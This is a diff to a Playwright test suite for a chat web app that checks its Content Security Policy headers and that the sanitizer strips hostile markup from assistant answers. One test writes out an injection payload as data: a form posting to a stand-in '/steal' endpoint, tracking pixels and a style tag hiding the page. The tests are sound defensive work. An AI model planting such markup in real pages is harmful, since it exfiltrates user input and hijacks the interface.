@@ -5,9 +5,11 @@ from __future__ import annotations
 import json
 import time
 from collections.abc import Iterator
+from dataclasses import dataclass, field
 
+import httpx
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, ConsoleMessage, Page, expect
 
 from feedback.pairs import read_all
 from tests.helpers import ServerHandle
@@ -19,10 +21,38 @@ PHONE = {"width": 390, "height": 844}
 # At temperature 0.7 the small model sometimes loops on emoji until the context is full: cap answers so that every
 # test's answer ends within its timeout on a slow machine.
 ANSWER_CAP = {"max-tokens": "160"}
+# A server that answers nothing (port 9, discard): where a hostile answer would send what it steals.
+ELSEWHERE = "http://127.0.0.2:9"
 
 
-def open_page(browser: Browser, server: ServerHandle, viewport: dict, storage: dict | None = None) -> Page:
-    """A fresh browser profile with the API key and the answer cap set, and ``storage`` preloaded into localStorage."""
+@dataclass
+class PageEvents:
+    """What a page did that a test rules out: the URLs it requested and the policy violations it logged."""
+
+    requests: list[str] = field(default_factory=list)
+    policy_violations: list[str] = field(default_factory=list)
+
+    def watch(self, page: Page) -> None:
+        page.on("request", lambda request: self.requests.append(request.url))
+        page.on("console", self._console)
+
+    def _console(self, message: ConsoleMessage) -> None:
+        if "Content Security Policy" in message.text:
+            self.policy_violations.append(message.text)
+
+    def elsewhere(self, origin: str) -> list[str]:
+        return [url for url in self.requests if not url.startswith((origin + "/", "data:"))]
+
+
+def open_page(
+    browser: Browser,
+    server: ServerHandle,
+    viewport: dict,
+    storage: dict | None = None,
+    events: PageEvents | None = None,
+) -> Page:
+    """A fresh browser profile with the API key and the answer cap set, and ``storage`` preloaded into localStorage;
+    ``events`` records the page's requests and console from before it loads."""
     context = browser.new_context(viewport=viewport)
     settings = {"key": server.user_key, **ANSWER_CAP, **(storage or {})}
     preset = {f"chatloop.{k}": v for k, v in settings.items()}
@@ -30,6 +60,8 @@ def open_page(browser: Browser, server: ServerHandle, viewport: dict, storage: d
         f"for (const [k, v] of Object.entries({json.dumps(preset)})) localStorage.setItem(k, JSON.stringify(v));"
     )
     page = context.new_page()
+    if events is not None:
+        events.watch(page)
     page.goto(server.base_url + "/")
     return page
 
@@ -182,6 +214,81 @@ def test_script_in_an_answer_does_not_run(browser: Browser, server: ServerHandle
     page.context.close()
 
 
+@pytest.mark.parametrize("path", ["/", "/admin"])
+def test_pages_send_a_strict_content_security_policy(server: ServerHandle, path: str) -> None:
+    response = httpx.get(server.base_url + path, timeout=30)
+    assert response.status_code == 200
+    directives = [d.split() for d in response.headers["content-security-policy"].split(";")]
+    assert {name: sources for name, *sources in directives} == {
+        "default-src": ["'self'"],
+        "script-src": ["'self'"],
+        "style-src": ["'self'"],
+        "img-src": ["'self'", "data:"],
+        "connect-src": ["'self'"],
+        "form-action": ["'none'"],
+        "frame-ancestors": ["'none'"],
+        "base-uri": ["'none'"],
+        "object-src": ["'none'"],
+    }
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert response.headers["referrer-policy"] == "no-referrer"
+    assert response.headers["x-frame-options"] == "DENY"
+
+
+def test_answer_cannot_restyle_the_page_or_reach_another_server(browser: Browser, server: ServerHandle) -> None:
+    hostile = (
+        "Before\n\n<style>body{display:none}</style>\n\n"
+        f'<form action="{ELSEWHERE}/steal"><input name=k><button>Go</button></form>\n\n'
+        f'<img src="{ELSEWHERE}/pixel.png">\n\n![pixel]({ELSEWHERE}/markdown.png)\n\n'
+        f'<table background="{ELSEWHERE}/table.png"><tr><td>cell</td></tr></table>\n\n'
+        '<p style="position:fixed;inset:0;background:red">After</p>\n\n- [x] done\n- [ ] to do'
+    )
+    conversation = {
+        "id": "c-css",
+        "title": "css",
+        "messages": [
+            {"role": "user", "content": "hi"},
+            {
+                "role": "assistant",
+                "content": hostile,
+                "completionId": "chatcmpl-c",
+                "choiceIndex": 0,
+                "version": "base",
+            },
+        ],
+    }
+    events = PageEvents()
+    page = open_page(browser, server, DESKTOP, {"conversations": [conversation], "active": "c-css"}, events)
+    bubble = page.locator(".message.assistant .bubble")
+    expect(bubble).to_contain_text("After")
+    expect(bubble).to_contain_text("☑ done")
+    page.wait_for_load_state("networkidle")
+    assert bubble.locator("style, form, input, button, img, [style], [background]").count() == 0
+    assert page.evaluate("getComputedStyle(document.body).display") != "none"
+    expect(page.locator("#composer")).to_be_visible()
+    assert bubble.locator("p", has_text="After").evaluate("node => getComputedStyle(node).position") == "static"
+    # No check of policy violations here: the sanitizer parses the answer in an inert document, where Chromium
+    # reports the inline style it refuses to apply; the page's own needs are checked at phone width.
+    assert events.elsewhere(server.base_url) == []
+    page.context.close()
+
+
+def test_ops_page_runs_under_its_policy(browser: Browser, server: ServerHandle) -> None:
+    events = PageEvents()
+    context = browser.new_context(viewport=DESKTOP)
+    page = context.new_page()
+    events.watch(page)
+    page.goto(server.base_url + "/admin")
+    page.fill("#admin-key", server.admin_key)
+    page.click("#key-form button")
+    expect(page.locator("#routing")).to_contain_text("Active base")
+    expect(page.locator("#split div")).to_be_visible()
+    expect(page.locator("#rates-chart svg")).to_be_visible()
+    assert events.elsewhere(server.base_url) == []
+    assert events.policy_violations == []
+    context.close()
+
+
 def test_phone_width_has_no_horizontal_scroll(browser: Browser, server: ServerHandle) -> None:
     wide = "```\n" + "x" * 400 + "\n```\n\n" + "averyveryverylongword" * 20
     conversation = {
@@ -192,11 +299,13 @@ def test_phone_width_has_no_horizontal_scroll(browser: Browser, server: ServerHa
             {"role": "assistant", "content": wide, "completionId": "chatcmpl-w", "choiceIndex": 0, "version": "base"},
         ],
     }
-    page = open_page(browser, server, PHONE, {"conversations": [conversation], "active": "c-wide"})
+    events = PageEvents()
+    page = open_page(browser, server, PHONE, {"conversations": [conversation], "active": "c-wide"}, events)
     expect(page.locator(".message.assistant pre")).to_be_visible()
     overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
     assert overflow <= 0
     assert page.locator("#sidebar").bounding_box()["x"] < 0, "the sidebar folds away at phone width"
     page.click("#toggle-sidebar")
     expect(page.locator("#sidebar")).to_be_in_viewport()
+    assert events.policy_violations == [], "the page itself needs nothing its policy forbids"
     page.context.close()
